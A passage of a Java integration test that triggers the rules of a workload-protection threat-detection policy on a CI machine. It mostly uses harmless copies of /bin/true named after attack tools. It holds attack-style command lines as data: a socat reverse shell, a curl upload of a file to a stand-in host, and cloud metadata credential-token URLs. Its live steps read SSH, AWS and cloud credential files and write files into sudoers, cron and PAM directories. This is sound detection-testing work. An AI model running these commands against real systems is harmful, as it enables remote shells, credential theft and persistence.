package vigil.threats.sensor;

import static org.assertj.core.api.Assertions.assertThat;
import static vigil.threats.sensor.PolicyTriggers.number;
import static vigil.threats.sensor.PolicyTriggers.run;
import static vigil.threats.sensor.PolicyTriggers.text;
import static vigil.threats.sensor.PolicyTriggers.texts;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.io.TempDir;
import vigil.threats.rules.engine.Constants;
import vigil.threats.rules.event.FieldCatalog;
import vigil.threats.rules.policy.Environment;
import vigil.threats.rules.policy.PolicyLoader;
import vigil.threats.rules.policy.PolicyReader;
import vigil.threats.rules.policy.RuleRunner;
import vigil.threats.rules.policy.RuleSet;
import vigil.threats.rules.policy.SensorProfile;

/**
 * Datadog's default Workload Protection policy ({@code ../shared/fixtures/secl/default.policy}) on the real sensor
 * (CI runs as root), as {@code vigil threats watch --policy} runs it: each rule that can be fired harmlessly on a CI
 * machine is fired by doing what it is about, and its signal must name the process that did it. Binaries a rule
 * knows by name are copies of {@code /bin/true} under that name (nothing runs); files a rule is about are created
 * empty under the test's own names in the directories it watches and removed; connections are UDP sockets
 * connected to an address (no packet is sent); the kernel module is four kilobytes of zeros, which the kernel
 * refuses; a rule about containers runs its trigger in a cgroup under Docker's name, and its signal must carry that
 * container. docs/threats-coverage.md lists these rules, and the ones left out with why.
 */
class DefaultPolicyIT {
    private static final Path POLICY =
            Path.of(System.getProperty("vigil.fixtures", "../../shared/fixtures"), "secl", "default.policy");
    private static final FieldCatalog CATALOG = FieldCatalog.linux();
    private static final List<Fired> FIRED = new CopyOnWriteArrayList<>();
    private static final AtomicBoolean RUNNING = new AtomicBoolean(true);
    private static final String MINE = "vigil-test-" + ProcessHandle.current().pid();
    private static Sensor sensor;
    private static Thread poller;

    @TempDir
    static Path temp;

    record Fired(String rule, long pid, String processPath, List<String> ancestors, String container) {}

    /**
     * A rule, what fires it (returning the pid of the process the signal must name) and that process's path; or,
     * where the rule is about a parent or ancestor ({@code parent} not null), the signal of a process with that path
     * whose ancestors hold {@code parent}; and the container the signal must carry ("" for none).
     */
    record Case(
            String rule,
            Trigger trigger,
            String process,
            @org.jspecify.annotations.Nullable String parent,
            String container) {
        Case(String rule, Trigger trigger, String process) {
            this(rule, trigger, process, null, "");
        }

        Case(String rule, Trigger trigger, String process, @org.jspecify.annotations.Nullable String parent) {
            this(rule, trigger, process, parent, "");
        }
    }

    @FunctionalInterface
    interface Trigger {
        long fire() throws Exception;
    }

    @BeforeAll
    static void start() throws IOException {
        RuleSet rules = new PolicyLoader(
                        CATALOG, Constants.linux(), Environment.ofThisHost(), SensorProfile.linuxTracepoints())
                .load(List.of(PolicyReader.read("default.policy", Files.readString(POLICY))));
        RuleRunner runner = new RuleRunner(rules, CATALOG);
        Path proc = Path.of("/proc");
        EventMapper mapper = new EventMapper(ProcessCache.fromProc(proc), CATALOG, proc);
        RuleRunner.MatchSink sink = (rule, variant, signal, event) -> FIRED.add(new Fired(
                rule.definition().id(),
                number(event, "process.pid"),
                text(event, "process.file.path"),
                texts(event, "process.ancestors.file.path"),
                text(event, "process.container.id")));
        java.util.Set<String> types = new java.util.TreeSet<>(List.of("chdir"));
        rules.rules().forEach(rule -> rule.variants().forEach(variant -> types.add(variant.eventType())));
        sensor = Sensor.start(
                record -> mapper.map(record).ifPresent(event -> runner.evaluate(event, sink)),
                OpenApprovers.of(rules).orElse(null),
                Syscalls.wanted(types));
        poller = Thread.ofPlatform().name("sensor-poll").start(() -> {
            while (RUNNING.get()) {
                sensor.poll(50);
            }
        });
    }

    @AfterAll
    static void stop() throws Exception {
        RUNNING.set(false);
        poller.join();
        sensor.close();
        // every file the cases made is under the test's own name; directories only the test made go too
        sh("rm -rf /home/" + MINE + " /dev/shm/" + MINE + " /etc/*/" + MINE + "* /etc/*/*/" + MINE + "*");
        Files.deleteIfExists(CONTAINER_CGROUP); // empty: its processes have ended
        Files.deleteIfExists(cgroupOf(OLD_CONTAINER));
        Files.deleteIfExists(cgroupOf(NEW_CONTAINER));
        sh("rm -f /usr/local/bin/" + MINE + "*");
        if (Files.isDirectory(OVERLAY)) {
            run("/bin/umount", OVERLAY.resolve("merged").toString());
        }
        sh("rm -rf " + OVERLAY + " " + SHARED);
        if (!SUDOERS_D_EXISTED) {
            sh("rmdir /etc/sudoers.d");
        }
    }

    /** Whether {@code /etc/sudoers.d} was there before the cases made a file in it (not on the CI machine). */
    private static final boolean SUDOERS_D_EXISTED = Files.isDirectory(Path.of("/etc/sudoers.d"));

    private static long sh(String script) throws IOException, InterruptedException {
        return run("/bin/sh", "-c", script);
    }

    /** A copy of {@code /bin/true} named {@code name} in the test's directory: a tool a rule knows by its name. */
    private static String named(String name) throws IOException {
        Path dir = Files.createDirectories(temp.resolve("bin-" + name.hashCode()));
        Path copy = Files.copy(Path.of("/bin/true"), dir.resolve(name), StandardCopyOption.REPLACE_EXISTING);
        copy.toFile().setExecutable(true);
        return copy.toString();
    }

    /** A copy of {@code binary} named {@code name}: runs as the original does. */
    private static String copy(String binary, String name) throws IOException {
        Path dir = Files.createDirectories(temp.resolve("copies"));
        Path copy = Files.copy(Path.of(binary), dir.resolve(name), StandardCopyOption.REPLACE_EXISTING);
        copy.toFile().setExecutable(true);
        return copy.toString();
    }

    private static Case execOf(String rule, String name, String... args) throws IOException {
        String path = named(name);
        List<String> command = new ArrayList<>(List.of(path));
        command.addAll(List.of(args));
        return new Case(rule, () -> run(command.toArray(String[]::new)), path);
    }

    private static Case shell(String rule, String script) {
        return new Case(rule, () -> sh(script), "/usr/bin/dash");
    }

    /**
     * The six file calls on a file of the test's own in {@code dir}, each a rule of {@code family}: chmod, chown,
     * utimes ({@code touch}), rename ({@code mv}), link ({@code ln}), unlink ({@code rm}).
     */
    private static List<Case> fileCalls(String family, String dir, String name) {
        String file = dir + "/" + name;
        return List.of(
                new Case(
                        family + "_chmod",
                        () -> {
                            sh("mkdir -p " + dir + " && : > " + file + " && chmod 644 " + file);
                            return run("/bin/chmod", "600", file);
                        },
                        "/usr/bin/chmod"),
                new Case(family + "_chown", () -> run("/bin/chown", "1:1", file), "/usr/bin/chown"),
                // by path (touch sets the times through its open descriptor, which names no path at sys_enter)
                new Case(
                        family + "_utimes",
                        () -> run("/usr/bin/perl", "-e", "utime(undef, undef, '" + file + "')"),
                        "/usr/bin/perl"),
                new Case(family + "_rename", () -> run("/bin/mv", file, file + "-moved"), "/usr/bin/mv"),
                new Case(family + "_link", () -> run("/bin/ln", file + "-moved", file + "-linked"), "/usr/bin/ln"),
                new Case(
                        family + "_unlink",
                        () -> run("/bin/rm", "-f", file + "-moved", file + "-linked"),
                        "/usr/bin/rm"));
    }

    /**
     * A container as runc makes one for Docker, without a runtime (none runs on the CI machine): a cgroup under
     * Docker's name, which the sensor reads a process's container from (as ContainerSignalIT does).
     */
    private static final String CONTAINER = java.util.HexFormat.of()
            .formatHex(java.nio.ByteBuffer.allocate(32)
                    .putLong(ProcessHandle.current().pid())
                    .putLong(System.nanoTime())
                    .putLong(0x7669676c)
                    .putLong(42)
                    .array());

    private static final Path CONTAINER_CGROUP = cgroupOf(CONTAINER);

    /** A container started three minutes ago (its cgroup's time set back), and one started as its process runs. */
    private static final String OLD_CONTAINER = CONTAINER.substring(0, 60) + "0dea";

    private static final String NEW_CONTAINER = CONTAINER.substring(0, 60) + "0bee";

    private static Path cgroupOf(String id) {
        return Files.isDirectory(Path.of("/sys/fs/cgroup/pids"))
                ? Path.of("/sys/fs/cgroup/pids/docker", id)
                : Path.of("/sys/fs/cgroup/docker-" + id + ".scope");
    }

    /**
     * {@code script} run by a shell in container {@code id}'s cgroup, made when missing (three minutes old if so); the
     * script's process is the container's from its next exec on, as a runtime's entrypoint is.
     */
    private static long inContainerStarted(String id, boolean old, String script) throws Exception {
        Path cgroup = cgroupOf(id);
        if (!Files.isDirectory(cgroup)) {
            Files.createDirectories(cgroup);
            if (old) {
                run("/usr/bin/touch", "-m", "-d", "3 minutes ago", cgroup.toString());
            }
        }
        return sh("echo $$ > " + cgroup.resolve("cgroup.procs") + " && " + script);
    }

    /** {@code command} run in the container: a shell moves itself into its cgroup, then becomes the command. */
    private static Case inContainer(String rule, String process, String... command) {
        StringBuilder exec = new StringBuilder();
        for (String word : command) {
            exec.append(" '").append(word.replace("'", "'\\''")).append("'");
        }
        return new Case(
                rule,
                () -> {
                    Files.createDirectories(CONTAINER_CGROUP);
                    return sh("echo $$ > " + CONTAINER_CGROUP.resolve("cgroup.procs") + " && exec" + exec);
                },
                process,
                null,
                CONTAINER);
    }

    /** A copy of bash named {@code parentName} runs {@code script} (ending in {@code ; :}, so that it forks). */
    private static Case under(String rule, String parentName, String script, String child) throws IOException {
        String parent = copy("/bin/bash", parentName);
        return new Case(rule, () -> run(parent, "-c", script + "; :"), child, parent);
    }

    static List<Case> cases() throws IOException {
        List<Case> cases = new ArrayList<>();
        // tools known by name (copies of /bin/true: nothing runs)
        cases.add(execOf("exec_lsmod", "lsmod"));
        cases.add(execOf("aws_cli_usage", "aws", "s3", "ls"));
        cases.add(execOf("network_sniffing_tool", "tcpdump", "-i", "any"));
        cases.add(execOf("file_sync_exfil", "rsync", "-a", "/tmp/x", "host:/y"));
        cases.add(execOf("exec_wrmsr", "wrmsr", "0x1a0", "0"));
        cases.add(execOf("auditctl_usage", "auditctl", "-D"));
        cases.add(execOf("common_net_intrusion_util", "nmap", "-sS", "10.0.0.1"));
        cases.add(execOf("trufflehog_executed", "trufflehog", "filesystem", "/"));
        cases.add(execOf("openssl_backdoor", "openssl", "s_client", "-connect", "example.invalid:443"));
        cases.add(execOf("kmod_list", "kmod", "list"));
        cases.add(execOf("exec_whoami_v2", "whoami"));
        cases.add(execOf("find_credentials", "find", "/", "-path", "*/.ssh/*"));
        cases.add(execOf("find_mgmt_socket", "find", "/", "-name", "docker.sock"));
        cases.add(execOf("socat_shell", "socat", "TCP:192.0.2.1:4444", "EXEC:/bin/sh"));
        cases.add(execOf("netcat_shell", "nc", "-l", "-p", "4444"));
        cases.add(execOf("perl_shell", "perl", "-e", "socket(S,PF_INET,SOCK_STREAM,0)"));
        cases.add(execOf("python_cli_code", "python3", "-c", "import pty; pty.spawn('/bin/sh')"));
        cases.add(execOf("service_stop_v2", "systemctl", "stop", "vigil-test"));
        cases.add(execOf("shell_history_symlink", "ln", "-sf", "/dev/null", ".bash_history"));
        cases.add(execOf("usermod_privileged_group", "usermod", "-aG", "sudo", "nobody"));
        cases.add(execOf("kernel_process_masquerade", "[kworker]", "x"));
        cases.add(execOf("net_util_v2", "curl", "http://example.invalid/"));
        cases.add(execOf("aws_imds", "curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/r"));
        cases.add(execOf("hidden_file_executed", ".hidden"));
        String shm = "/dev/shm/" + MINE;
        cases.add(new Case(
                "devshm_execution",
                () -> {
                    Files.copy(Path.of("/bin/true"), Path.of(shm), StandardCopyOption.REPLACE_EXISTING);
                    Path.of(shm).toFile().setExecutable(true);
                    return run(shm);
                },
                shm));
        cases.add(execOf("azure_imds", "curl", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=1"));
        cases.add(execOf(
                "gcp_imds",
                "wget",
                "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"));
        cases.add(execOf("net_util_exfiltration_v2", "curl", "--upload-file", "/etc/hostname", "http://x.invalid/"));
        cases.add(execOf("net_unusual_request_v2", "curl", "http://x.invalid/shell.php"));
        cases.add(under("potential_web_shell_parent_v2", "nginx", "/bin/sh -c :", "/usr/bin/dash"));
        cases.add(execOf("cryptominer_args", "xmrig", "-o", "stratum+tcp://pool.invalid:3333"));
        cases.add(execOf("php_shell", "php", "-r", "socket_create(AF_INET, SOCK_STREAM, 0);"));
        cases.add(execOf("lateral_movement_tool", "chisel", "client"));
        cases.add(execOf("tunnel_traffic", "gost", "-L", ":8080"));
        cases.add(execOf("rogue_ssm_agent_registration", "amazon-ssm-agent", "-register", "-code", "abc", "-id", "x"));
        cases.add(execOf("kernel_msr_write", "modprobe", "msr", "allow_writes=on"));
        cases.add(execOf("offensive_k8s_tool", "kdigger", "dig", "all"));
        cases.add(execOf("enum_images", "docker", "image", "list"));
        cases.add(execOf("iptables_egress_allowed", "iptables", "-A", "OUTPUT", "-d", "8.8.8.8", "-j", "ACCEPT"));
        // rules about a parent or an ancestor: a copy of bash under its name starts the process
        cases.add(new Case("java_shell_execution_parent", () -> sh("exit 0"), "/usr/bin/dash"));
        cases.add(under("jupyter_shell_execution", "jupyter-notebook", "/bin/sh -c :", "/usr/bin/dash"));
        cases.add(under("database_shell_execution", "mysqld", "/bin/sh -c :", "/usr/bin/dash"));
        cases.add(under("omigod", "omiagent", "/bin/true", "/usr/bin/true"));
        cases.add(under("ssh_session", "sshd", "/bin/true", "/usr/bin/true"));
        cases.add(under("nohup_usage", "nohup", "/bin/true", "/usr/bin/true"));
        cases.add(under("webdriver_spawned_shell", "chromedriver", "/bin/true", "/usr/bin/true"));
        cases.add(under("cups_spawned_shell", "foomatic-rip", "/bin/true", "/usr/bin/true"));
        cases.add(under(
                "redis_sandbox_escape", "redis-server", "cat /usr/lib/x86_64-linux-gnu/libc-2.36.so", "/usr/bin/cat"));
        String redis = copy("/bin/bash", "redis-server");
        String dump = temp.resolve("dump.rdb").toString();
        cases.add(new Case("redis_save_module", () -> run(redis, "-c", ": > " + dump), redis));
        String downloader = copy("/bin/bash", "curl");
        String payload = temp.resolve("payload.sh").toString();
        cases.add(new Case("net_file_download", () -> run(downloader, "-c", ": > " + payload), downloader));
        // in a container (a cgroup under Docker's name)
        cases.add(inContainer("debugfs_in_container", named("debugfs"), named("debugfs"), "-R", "ls", "/dev/sda1"));
        cases.add(inContainer("unshare_in_container", named("unshare"), named("unshare"), "-r", "/bin/sh"));
        cases.add(inContainer("nsenter_in_container", named("nsenter"), named("nsenter"), "-t", "1", "-m", "sh"));
        cases.add(inContainer("mount_in_container", named("mount"), named("mount"), "/dev/sda1", "/mnt"));
        cases.add(inContainer("net_util_in_container_v3", named("wget"), named("wget"), "http://x.invalid/a"));
        cases.add(inContainer("suspicious_container_client_v2", named("kubectl"), named("kubectl"), "get", "pods"));
        cases.add(inContainer("compiler_in_container_v2", named("gcc"), named("gcc"), "-o", "x", "x.c"));
        String socketCurl = named("curl");
        cases.add(inContainer(
                "curl_mgmt_socket",
                socketCurl,
                socketCurl,
                "--unix-socket",
                "/var/run/docker.sock",
                "http://localhost/containers/json"));
        cases.add(
                inContainer("package_management_in_container_v2", "/usr/bin/apt-get", "/usr/bin/apt-get", "--version"));
        cases.add(inContainer(
                "kernel_module_load_from_memory_container",
                "/usr/bin/perl",
                "/usr/bin/perl",
                "-e",
                "$m = \"\\0\" x 4096; $p = \"\"; syscall(175, $m, 4096, $p)"));
        cases.add(inContainer("overwrite_entrypoint", "/usr/bin/dash", "/bin/sh", "-c", ": > /proc/self/fd/1"));
        cases.add(inContainer("interactive_shell_in_container_v2", "/usr/bin/dash", "/bin/sh", "-i", "-c", "exit 0"));
        // the real tools, harmlessly
        cases.add(new Case(
                "tar_execution_v2",
                () -> run("/usr/bin/tar", "-c", "-f", "/dev/null", "/etc/hostname"),
                "/usr/bin/tar"));
        cases.add(new Case("base64_decode_v2", () -> run("/usr/bin/base64", "-d", "/dev/null"), "/usr/bin/base64"));
        cases.add(new Case(
                "execution_context_daemonized_process", () -> run("/usr/bin/setsid", "/bin/true"), "/usr/bin/setsid"));
        String cat = copy("/bin/cat", "cat");
        cases.add(new Case("proc_environ_read_tracking", () -> run(cat, "/proc/1/environ"), cat));
        String rm = copy("/bin/rm", "remove-myself");
        cases.add(new Case("unlink_self", () -> run(rm, rm), rm));
        // opens a rule is about: read, or written empty under the test's own names
        cases.add(new Case("drop_caches", () -> run("/bin/cat", "/proc/sys/vm/drop_caches"), "/usr/bin/cat"));
        // the first read of a kind of credential in this cgroup (the rule remembers the kinds it saw)
        cases.add(new Case("credential_category_k8s", () -> run("/bin/cat", "/root/.kube/config"), "/usr/bin/cat"));
        cases.add(new Case("read_kubeconfig", () -> run("/bin/cat", "/root/.kube/config"), "/usr/bin/cat"));
        cases.add(new Case("credential_category_ssh", () -> run("/bin/cat", "/root/.ssh/id_rsa"), "/usr/bin/cat"));
        cases.add(new Case("credential_category_aws", () -> run("/bin/cat", "/root/.aws/credentials"), "/usr/bin/cat"));
        cases.add(new Case(
                "credential_category_docker", () -> run("/bin/cat", "/root/.docker/config.json"), "/usr/bin/cat"));
        cases.add(new Case(
                "credential_category_gcp",
                () -> run("/bin/cat", "/root/.config/gcloud/credentials.db"),
                "/usr/bin/cat"));
        cases.add(new Case(
                "credential_category_azure", () -> run("/bin/cat", "/root/.azure/accessTokens.json"), "/usr/bin/cat"));
        cases.add(new Case("credential_category_system", () -> run("/bin/cat", "/etc/gshadow"), "/usr/bin/cat"));
        cases.add(new Case("execution_context_spawned_shell", () -> sh("exit 0"), "/usr/bin/dash"));
        // by now this cgroup has read credentials of three kinds and more
        cases.add(
                new Case("bulk_credential_harvesting", () -> run("/bin/cat", "/root/.ssh/id_ed25519"), "/usr/bin/cat"));
        cases.add(shell("open_msr_writes", ": > /sys/module/msr/parameters/allow_writes"));
        cases.add(shell("cron_at_job_creation_open", ": > /etc/cron.d/" + MINE));
        cases.add(shell("kernel_module_open", ": > /etc/modprobe.d/" + MINE + ".conf"));
        cases.add(shell("dynamic_linker_config_write", ": > /etc/ld.so.conf.d/" + MINE + ".conf"));
        cases.add(shell("sudoers_policy_modified_open", ": > /etc/sudoers.d/" + MINE));
        cases.add(shell("pam_modification_open", ": > /etc/pam.d/" + MINE));
        cases.add(shell("ssl_certificate_tampering_open", ": > /etc/ssl/certs/" + MINE + ".pem"));
        cases.add(shell("systemd_modification_open", ": > /etc/systemd/system/" + MINE + ".service"));
        cases.add(shell("udev_modification", ": > /etc/udev/rules.d/" + MINE + ".rules"));
        String home = "/home/" + MINE;
        cases.add(new Case(
                "ssh_authorized_keys_open",
                () -> {
                    sh("mkdir -p " + home + "/.ssh");
                    return sh(": >> " + home + "/.ssh/authorized_keys");
                },
                "/usr/bin/dash"));
        cases.add(shell("shell_profile_modification", ": >> " + home + "/.bashrc"));
        cases.add(new Case(
                "shell_history_deleted",
                () -> {
                    sh(": > " + home + "/.bash_history");
                    return run("/bin/rm", home + "/.bash_history");
                },
                "/usr/bin/rm"));
        cases.add(new Case(
                "shell_history_truncated",
                () -> {
                    sh(": > " + home + "/.bash_history");
                    return run("/usr/bin/truncate", "-s", "0", home + "/.bash_history");
                },
                "/usr/bin/truncate"));
        cases.add(shell("ssh_it_tool_config_write", "mkdir -p " + home + "/.prng && : > " + home + "/.prng/config"));
        cases.add(shell("static_pod_manifest_created", ": > /etc/kubernetes/manifests/" + MINE + ".yaml"));
        cases.add(shell("bpfdoor_pid_file_creation", ": > /run/haldrund.pid; rm -f /run/haldrund.pid"));
        cases.add(shell("pam_modification", ": > /etc/pam.d/" + MINE + "-fim"));
        cases.add(new Case(
                "aws_eks_service_account_token_accessed",
                () -> run("/bin/cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"),
                "/usr/bin/cat"));
        cases.add(new Case(
                "dynamic_linker_config_unlink",
                () -> run("/bin/rm", "-f", "/etc/ld.so.conf.d/" + MINE + ".conf"),
                "/usr/bin/rm"));
        // chmod, chown, utimes, rename, link, unlink of files of the test's own where the rules watch
        cases.addAll(fileCalls("cron_at_job_creation", "/etc/cron.d", MINE + "-calls"));
        cases.addAll(fileCalls("pam_modification", "/etc/pam.d", MINE + "-calls"));
        cases.addAll(fileCalls("kernel_module", "/etc/modprobe.d", MINE + "-calls.conf"));
        cases.addAll(fileCalls("systemd_modification", "/etc/systemd/system", MINE + "-calls.service"));
        cases.addAll(fileCalls("sudoers_policy_modified", "/etc/sudoers.d", MINE + "-calls"));
        cases.addAll(fileCalls("ssl_certificate_tampering", "/etc/ssl/certs", MINE + "-calls.pem"));
        // system calls no tool makes: perl's syscall()
        cases.add(new Case(
                "ptrace_antidebug", () -> run("/usr/bin/perl", "-e", "syscall(101, 0, 0, 0, 0)"), "/usr/bin/perl"));
        cases.add(new Case(
                "prctl_masquerading",
                () -> run("/usr/bin/perl", "-e", "$n = \"systemd\"; syscall(157, 15, $n, 0, 0, 0)"),
                "/usr/bin/perl"));
        cases.add(new Case(
                "kernel_module_load_from_memory",
                () -> run("/usr/bin/perl", "-e", "$m = \"\\0\" x 4096; $p = \"\"; syscall(175, $m, 4096, $p)"),
                "/usr/bin/perl"));
        cases.add(shell("rootkit_activation", "sleep 5 & kill -40 $!"));
        // a BPF map made by a process whose arguments name libpam (an array of one entry, freed at its exit)
        cases.add(new Case(
                "libpam_ebpf_hook",
                () -> run(
                        "/usr/bin/perl",
                        "-e",
                        "$a = pack(\"LLLL\", 2, 4, 4, 1) . \"\\0\" x 64; syscall(321, 0, $a, 80)",
                        "libpam.so"),
                "/usr/bin/perl"));
        // connections: a UDP socket connected to an address sends nothing
        cases.add(new Case(
                "irc_connection", () -> run("/bin/bash", "-c", "exec 3<>/dev/udp/1.1.1.1/6667"), "/usr/bin/bash"));
        cases.add(new Case(
                "shell_net_connection", () -> run("/bin/bash", "-c", "exec 3<>/dev/udp/1.1.1.1/53"), "/usr/bin/bash"));
        cases.add(new Case(
                "p2pinfect_connection",
                () -> run("/bin/bash", "-c", "exec 3<>/dev/udp/1.1.1.1/60120"),
                "/usr/bin/bash"));
        cases.add(new Case(
                "ssh_outbound_connection",
                () -> run("/bin/bash", "-c", "exec 3<>/dev/udp/10.255.255.1/22"),
                "/usr/bin/bash"));
        String ssh = copy("/bin/bash", "ssh");
        cases.add(
                new Case("ssh_nonstandard_connection", () -> run(ssh, "-c", "exec 3<>/dev/udp/10.255.255.1/443"), ssh));
        cases.addAll(processDetailCases());
        return cases;
    }

    /** A directory nobody can reach (the test's own is root's alone), for set-user-id copies nobody runs. */
    private static final Path SHARED = Path.of("/tmp", MINE + "-suid");

    /** A set-user-id root copy of {@code binary} named {@code name}, made now (its change time is fresh). */
    private static String setUid(String binary, String name) throws IOException {
        Files.createDirectories(SHARED);
        SHARED.toFile().setExecutable(true, false);
        Path copy = Files.copy(Path.of(binary), SHARED.resolve(name), StandardCopyOption.REPLACE_EXISTING);
        Files.setPosixFilePermissions(copy, java.nio.file.attribute.PosixFilePermissions.fromString("rwxr-xr-x"));
        Files.setAttribute(copy, "unix:mode", 04755);
        return copy.toString();
    }

    /** {@code command} run as nobody (real ids 65534; a set-user-id file still gives root's effective id). */
    private static String[] asNobody(String... command) {
        List<String> all =
                new ArrayList<>(List.of("/usr/bin/setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"));
        all.addAll(List.of(command));
        return all.toArray(String[]::new);
    }

    /** {@code command} run on a terminal: {@code script} gives it a pseudo-terminal, then the command runs. */
    private static long onTerminal(String command) throws IOException, InterruptedException {
        return run("/usr/bin/script", "-qec", command, "/dev/null");
    }

    /** An overlay mounted as a container's root is (lower: an image's files; upper: what the container wrote). */
    private static final Path OVERLAY = Path.of("/tmp", MINE + "-overlay");

    private static Path overlay() throws IOException, InterruptedException {
        Path merged = OVERLAY.resolve("merged");
        if (Files.isDirectory(merged.resolve("bin"))) {
            return merged;
        }
        for (String dir : List.of("lower/bin", "upper", "work", "merged")) {
            Files.createDirectories(OVERLAY.resolve(dir));
        }
        String options = "lowerdir=" + OVERLAY.resolve("lower") + ",upperdir=" + OVERLAY.resolve("upper") + ",workdir="
                + OVERLAY.resolve("work");
        assertThat(run("/bin/mount", "-t", "overlay", "vigil-test", "-o", options, merged.toString()))
                .isPositive();
        long deadline = System.nanoTime() + 5_000_000_000L;
        while (!Files.isDirectory(merged.resolve("bin")) && System.nanoTime() < deadline) {
            Thread.sleep(20);
        }
        return merged;
    }

    /**
     * Rules on what an exec tells of a process beyond its path and arguments: its environment, terminal, effective
     * ids, audit login id, and its file's mode, owner, times and overlay layer.
     */
    private static List<Case> processDetailCases() throws IOException {
        List<Case> cases = new ArrayList<>();
        // environments (names; LD_PRELOAD and GLIBC_TUNABLES with their values)
        cases.add(new Case(
                "cryptominer_envs",
                () -> run("/usr/bin/env", "POOL_URL=stratum+tcp://pool.invalid", "/bin/true"),
                "/usr/bin/true"));
        cases.add(new Case(
                "ld_preload_unusual_library_path",
                () -> run("/usr/bin/env", "LD_PRELOAD=/tmp/" + MINE + "-absent.so", "/bin/true"),
                "/usr/bin/true"));
        cases.add(new Case(
                "execution_context_cicd_runner",
                () -> run("/usr/bin/env", "GITHUB_ACTIONS=true", "/bin/true"),
                "/usr/bin/true"));
        cases.add(new Case(
                "execution_context_service",
                () -> run("/usr/bin/env", "DD_SERVICE=vigil-test", "/bin/true"),
                "/usr/bin/true"));
        // an audit login id: perl gives itself one, as pam_loginuid does at a login, then becomes true (not a shell,
        // whose own context rule would give the process a correlation key first)
        cases.add(new Case(
                "execution_context_auid",
                () -> run(
                        "/usr/bin/perl",
                        "-e",
                        "open(F, '>', '/proc/self/loginuid') or die; print F '1000'; close(F) or die; exec '/bin/true'"),
                "/usr/bin/true"));
        // a terminal
        String useradd = named("useradd");
        // (the policy's first versions of these rules are for older agents: their _v2 is what loads)
        cases.add(new Case("user_created_tty_v2", () -> onTerminal(useradd + " vigil-y"), useradd, "/usr/bin/script"));
        String userdel = named("userdel");
        cases.add(new Case("user_deleted_tty", () -> onTerminal(userdel + " vigil-x"), userdel, "/usr/bin/script"));
        String aaDisable = named("aa-disable");
        cases.add(
                new Case("apparmor_modified_tty_v2", () -> onTerminal(aaDisable + " y"), aaDisable, "/usr/bin/script"));
        cases.add(new Case(
                "execution_context_interactive_shell",
                () -> onTerminal("/bin/bash -c :"),
                "/usr/bin/bash",
                "/usr/bin/script"));
        cases.add(new Case(
                "tty_shell_in_container",
                () -> {
                    Files.createDirectories(CONTAINER_CGROUP);
                    return onTerminal(
                            "echo $$ > " + CONTAINER_CGROUP.resolve("cgroup.procs") + " && exec /bin/sh -c :");
                },
                "/usr/bin/dash",
                "/usr/bin/script",
                CONTAINER));
        // set-user-id files: their mode, owner and fresh times; root's effective id under nobody's real one
        String fresh = SHARED.resolve("fresh-suid").toString();
        cases.add(new Case("suspicious_suid_execution", () -> run(setUid("/bin/true", "fresh-suid")), fresh));
        String tunable = setUid("/bin/true", "tunable-suid");
        cases.add(new Case(
                "looney_tunables_exploit",
                () -> run(asNobody("/usr/bin/env", "GLIBC_TUNABLES=glibc.malloc.mxfast=0", tunable)),
                tunable));
        String perl = setUid("/usr/bin/perl", "perl-suid");
        cases.add(new Case("suid_file_execution_v2", () -> run(asNobody(perl, "-e", "syscall(105, 0)")), perl));
        // a process of a login session (login id 1000), effectively nobody, asking to write AppArmor's policy (no
        // AppArmor on the CI kernel: the open fails; the attempt is what the rule is about)
        cases.add(new Case(
                "apparmor_load_unprivileged_origin",
                () -> run(
                        "/usr/bin/perl",
                        "-e",
                        "open(F, '>', '/proc/self/loginuid') or die; print F '1000'; close(F) or die;"
                                + " exec '/usr/bin/setpriv', '--euid=65534', '/usr/bin/perl', '-e',"
                                + " 'open(G, \">\", \"/sys/kernel/security/apparmor/.load\")'"),
                "/usr/bin/perl"));
        // containers by their age (a cgroup's time): a privileged process as one starts; a long-running one's writes
        cases.add(new Case(
                "deploy_priv_container",
                () -> inContainerStarted(NEW_CONTAINER, false, "exec /bin/true"),
                "/usr/bin/true",
                null,
                NEW_CONTAINER));
        cases.add(new Case(
                "ssh_authorized_keys_open_v2",
                () -> inContainerStarted(
                        OLD_CONTAINER,
                        true,
                        "mkdir -p /home/" + MINE + "/.ssh && exec /bin/sh -c ': >> /home/" + MINE
                                + "/.ssh/authorized_keys'"),
                "/usr/bin/dash",
                null,
                OLD_CONTAINER));
        cases.add(new Case(
                "ssl_certificate_tampering_open_v2",
                () -> inContainerStarted(
                        OLD_CONTAINER, true, "exec /bin/sh -c ': > /etc/ssl/certs/" + MINE + "-v2.pem'"),
                "/usr/bin/dash",
                null,
                OLD_CONTAINER));
        cases.add(new Case(
                "pci_11_5_critical_binaries_open_v2",
                () -> inContainerStarted(OLD_CONTAINER, true, "exec /bin/sh -c ': > /usr/local/bin/" + MINE + "'"),
                "/usr/bin/dash",
                null,
                OLD_CONTAINER));
        // a file written into a long-running container's overlay, then run
        cases.add(new Case(
                "exec_new_file",
                () -> {
                    Path dropped = overlay().resolve("new-file");
                    Files.copy(Path.of("/bin/true"), dropped, StandardCopyOption.REPLACE_EXISTING);
                    dropped.toFile().setExecutable(true);
                    return inContainerStarted(OLD_CONTAINER, true, "exec " + dropped);
                },
                OVERLAY.resolve("merged/new-file").toString(),
                null,
                OLD_CONTAINER));
        // a tool dropped into a container's overlay enumerating what it runs in
        cases.add(new Case(
                "container_breakout_enumeration_tool",
                () -> {
                    Path dropped = overlay().resolve("enumerate");
                    Files.copy(Path.of("/bin/cat"), dropped, StandardCopyOption.REPLACE_EXISTING);
                    dropped.toFile().setExecutable(true);
                    Files.createDirectories(CONTAINER_CGROUP);
                    return sh("echo $$ > " + CONTAINER_CGROUP.resolve("cgroup.procs") + " && exec " + dropped
                            + " /proc/1/status");
                },
                OVERLAY.resolve("merged/enumerate").toString(),
                null,
                CONTAINER));
        // a copy of cat under /tmp reading the environments of several processes (the policy counts them per process)
        String harvester = copy("/bin/cat", "harvester");
        cases.add(new Case(
                "proc_environ_credential_harvesting",
                () -> run(
                        harvester,
